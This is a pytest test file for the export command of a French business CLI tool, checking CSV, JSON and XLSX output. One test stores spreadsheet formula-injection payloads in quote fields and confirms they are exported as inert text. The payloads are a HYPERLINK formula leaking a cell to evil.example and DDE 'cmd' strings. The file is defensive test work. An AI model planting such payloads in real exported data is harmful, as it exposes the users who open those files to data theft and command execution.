"""`incubot export` as a manager uses it: quotes, services done and payments, in CSV, JSON and XLSX, read back."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from handlers.export import COLUMNS, DATE_FORMAT, DATETIME_FORMAT, EUROS_FORMAT, WHAT
from tests.test_cli import database, empty_database, incubot  # noqa: F401 - the fixture, and the CLI in this process
from tests.test_import_payments import EJ_B, MANAGER, example_orders, payments_file

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'


def export(capsys: pytest.CaptureFixture[str], tmp_path: Path, what: str, fmt: str) -> Path:
    """Run `incubot export --what WHAT --format FMT --output FILE`; the file."""
    output = tmp_path / f"{what}.{fmt}"
    code, out, err = incubot(capsys, "export", "--what", what, "--format", fmt, "--output", str(output))
    assert code == 0, err
    assert out == "" and str(output) in err
    return output


def xlsx_rows(path: Path) -> tuple[list[str], list[list[Any]], Any]:
    sheet = load_workbook(path).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    return [c.value for c in rows[0]], rows[1:], sheet


def same_cell(cell: Any, kind: str, expected: Any) -> None:
    """An XLSX cell holds, typed, what the JSON export says."""
    if expected == "":
        assert cell.value is None
    elif kind == "euros":
        assert isinstance(cell.value, int | float) and cell.number_format == EUROS_FORMAT
        assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == Decimal(expected)
    elif kind == "date":
        assert isinstance(cell.value, datetime) and cell.number_format == DATE_FORMAT
        assert cell.value.date() == date.fromisoformat(expected)
    elif kind == "datetime":
        paris = datetime.fromisoformat(expected).astimezone(ZoneInfo("Europe/Paris")).replace(tzinfo=None)
        assert isinstance(cell.value, datetime) and cell.number_format == DATETIME_FORMAT
        assert abs(cell.value - paris) < timedelta(milliseconds=1)
    elif kind == "int":
        assert cell.value == expected and isinstance(cell.value, int)
    else:
        assert cell.value == expected and cell.data_type == "s"


@pytest.mark.parametrize("what", WHAT)
def test_each_export_says_the_same_in_csv_json_and_xlsx(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                                                        tmp_path: Path, what: str) -> None:
    """The demo (for payments: orders of the example convention, paid by a payments file) exported as JSON, CSV
    and XLSX gives the same rows; the XLSX has numbers in euros, dates as dates, a bold frozen header and widened
    columns."""
    if what == "payments":
        world = example_orders(database, capsys)
        file = payments_file(tmp_path, "reference;amount;paid_on", f"{world['a'][0]};10000;2022-06-30",
                             f"{EJ_B};7000;01/07/2022")
        assert incubot(capsys, "import-payments", str(file), "--as", MANAGER)[0] == 0
    else:
        incubot(capsys, "demo")
    as_json = json.loads(export(capsys, tmp_path, what, "json").read_text(encoding="utf-8"))
    assert as_json, f"the demo has {what}"
    with export(capsys, tmp_path, what, "csv").open(encoding="utf-8", newline="") as f:
        as_csv = list(csv.DictReader(f))
    assert as_csv == [{k: str(v) for k, v in row.items()} for row in as_json]

    header, rows, sheet = xlsx_rows(export(capsys, tmp_path, what, "xlsx"))
    assert header == list(as_json[0]) == [c.name for c in COLUMNS[what]]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
    assert all(sheet.column_dimensions[c].width and sheet.column_dimensions[c].width >= 8 for c in "ABCDE")
    assert len(rows) == len(as_json)
    kinds = {c.name: c.kind for c in COLUMNS[what]}
    assert {"euros", "datetime"} <= set(kinds.values())
    for row, expected in zip(rows, as_json, strict=True):
        for name, cell in zip(header, row, strict=True):
            same_cell(cell, kinds[name], expected[name])


def test_the_euro_format_shows_french_figures() -> None:
    """The amount format is Excel's « # ##0,00 € » (thousands grouped, two decimals, the euro after a space)."""
    assert EUROS_FORMAT == '#,##0.00\\ "€"'


HOSTILE = {
    "supplier": HYPERLINK,
    "object": "+cmd|' /C calc'!A0\x01",
    "refusal_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def make_hostile(url: str) -> str:
    """A refused quote whose supplier, object and reason were typed to be run by a spreadsheet; its reference."""
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        reference = conn.execute(sa.text("SELECT reference FROM quote WHERE status = 'refused'")).scalars().first()
        conn.execute(sa.text("UPDATE quote SET supplier = :supplier, object = :object, refusal_reason = :refusal_reason"
                             " WHERE reference = :reference"), {**HOSTILE, "reference": reference})
        conn.execute(sa.text("UPDATE quote SET supplier = :supplier WHERE id IN (SELECT quote_id FROM service_done)"),
                     {"supplier": HYPERLINK})
        conn.execute(sa.text("UPDATE service_done SET period = '-1+1'"))
    engine.dispose()
    assert reference
    return str(reference)


def test_a_supplier_typed_as_a_formula_is_text_in_csv_and_xlsx(database: str,  # noqa: F811
                                                               capsys: pytest.CaptureFixture[str],
                                                               tmp_path: Path) -> None:
    """`=HYPERLINK(…)` in a supplier name is exported as inert text: `'=…` in CSV, a text cell with Excel's quote
    prefix in XLSX (no formula anywhere in the sheet's XML), the exact text read back with openpyxl."""
    incubot(capsys, "demo")
    reference = make_hostile(database)

    with export(capsys, tmp_path, "quotes", "csv").open(encoding="utf-8", newline="") as f:
        as_csv = {row["reference"]: row for row in csv.DictReader(f)}
    assert as_csv[reference]["supplier"] == "'" + HYPERLINK
    assert as_csv[reference]["refusal_reason"] == "'" + HOSTILE["refusal_reason"]

    for what in ("quotes", "service-done"):
        path = export(capsys, tmp_path, what, "xlsx")
        with zipfile.ZipFile(path) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml
        header, rows, _ = xlsx_rows(path)
        suppliers = [dict(zip(header, row, strict=True))["supplier"] for row in rows]
        hostile = [cell for cell in suppliers if cell.value == HYPERLINK]
        assert hostile, what
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)

    header, rows, _ = xlsx_rows(tmp_path / "quotes.xlsx")
    cells = {dict(zip(header, row, strict=True))["reference"].value: dict(zip(header, row, strict=True))
             for row in rows}
    assert cells[reference]["object"].value == "+cmd|' /C calc'!A0"  # the control character XML cannot carry
    assert cells[reference]["refusal_reason"].value == HOSTILE["refusal_reason"]
    assert cells[reference]["refusal_reason"].quotePrefix
    header, rows, _ = xlsx_rows(tmp_path / "service-done.xlsx")
    assert {dict(zip(header, row, strict=True))["period"].value for row in rows} == {"-1+1"}


def test_xlsx_is_not_written_to_a_terminal(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """`incubot export --format xlsx` on a terminal asks for --output instead of printing binary."""
    incubot(capsys, "demo")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    code, out, err = incubot(capsys, "export", "--format", "xlsx")
    assert code == 2 and out == "" and "--output" in err


def test_xlsx_goes_to_a_pipe(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Redirected (`incubot export --format xlsx > devis.xlsx`), the workbook is written to standard output."""
    incubot(capsys, "demo")
    buffer = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(buffer))
    from bot.cli import main

    assert main(["export", "--format", "xlsx"]) == 0
    sys.stdout.flush()
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "reference"


@pytest.mark.parametrize("what", WHAT)
def test_an_empty_database_exports_a_header(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                                            tmp_path: Path, what: str) -> None:
    """No row yet: CSV and XLSX are a header with every column, JSON an empty list."""
    incubot(capsys, "db", "upgrade")
    assert json.loads(export(capsys, tmp_path, what, "json").read_text(encoding="utf-8")) == []
    header = export(capsys, tmp_path, what, "csv").read_text(encoding="utf-8").splitlines()
    assert len(header) == 1 and header[0].startswith("reference,")
    columns, rows, _ = xlsx_rows(export(capsys, tmp_path, what, "xlsx"))
    assert columns == header[0].split(",") and rows == []
